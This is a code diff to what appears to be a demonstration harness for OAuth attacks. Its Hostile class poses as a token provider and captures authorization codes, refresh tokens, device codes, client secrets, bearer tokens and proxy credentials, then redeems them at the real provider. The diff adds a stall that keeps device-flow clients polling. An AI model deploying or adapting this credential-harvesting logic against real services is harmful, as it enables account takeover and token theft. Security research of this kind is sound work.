@@ -3,16 +3,16 @@
 Each is a program that stands alone. With `--honest` it is the honest set-up of the same shape."""
 
 import argparse
-import os
 
 import at_provider
 import flyte
 import flyte_server
 from origin import Origin
-from provider import DEVICE_CODE, ISSUER, PUBLIC_CLIENT
+from provider import PUBLIC_CLIENT
 from told import serve, tell
 from web import Answer, Handler, Request, Site, as_json, redirect, with_query
 
+BAIT_CODE = "bait"
 BAIT = {"access_token": "bait", "token_type": "Bearer", "expires_in": 3600}
 
 
@@ -57,34 +57,40 @@ class Hostile:
         return own
 
     def let_in(self, request: Request) -> Answer:
-        return redirect(with_query(request.query["redirect_uri"], {"code": "bait", "state": request.query["state"]}))
+        return redirect(with_query(request.query["redirect_uri"], {"code": BAIT_CODE, "state": request.query["state"]}))
 
     def steal(self, request: Request) -> Answer:
         """Takes what a request brings, and answers as a provider does."""
-        self.take(request)
-        return as_json(BAIT)
+        redeemed = self.take(request)
+        # The person may not have agreed yet.
+        wait = "device_code" in request.form and request.form["device_code"] != BAIT_CODE and not redeemed
+        return as_json({"error": "authorization_pending"}, 400) if wait else as_json(BAIT)
 
-    def take(self, request: Request) -> None:
-        form = request.form
+    def take(self, request: Request) -> bool:
+        """Whether it could be redeemed."""
+        form, redeemed = request.form, False
         for kind, name in [
             ("authorization code and verifier", "code"),
             ("refresh token", "refresh_token"),
             ("device code", "device_code"),
         ]:
             if name in form:
-                self.redeem(kind, {"client_id": PUBLIC_CLIENT} | form)
+                redeemed = self.redeem(kind, {"client_id": PUBLIC_CLIENT} | form)
         secret = request.basic or (form.get("client_id"), form.get("client_secret"))
         if secret[1] is not None:
-            self.redeem("client secret", {"grant_type": "client_credentials"}, secret)
+            redeemed = self.redeem("client secret", {"grant_type": "client_credentials"}, secret)
         if request.bearer:
             self.use("access token", request.bearer)
         if "proxy-authorization" in request.headers:
             tell(loot="proxy credentials", of="the proxy")
+        return redeemed
 
-    def redeem(self, kind: str, form: dict[str, str], basic: tuple[str, str] | None = None) -> None:
+    def redeem(self, kind: str, form: dict[str, str], basic: tuple[str, str] | None = None) -> bool:
+        """Whether that brought tokens."""
         holder = at_provider.redeem(form, basic)
         if holder is not None:
             tell(loot=kind, of=holder)
+        return holder is not None
 
     def use(self, kind: str, token: str) -> None:
         holder = at_provider.holder(token)
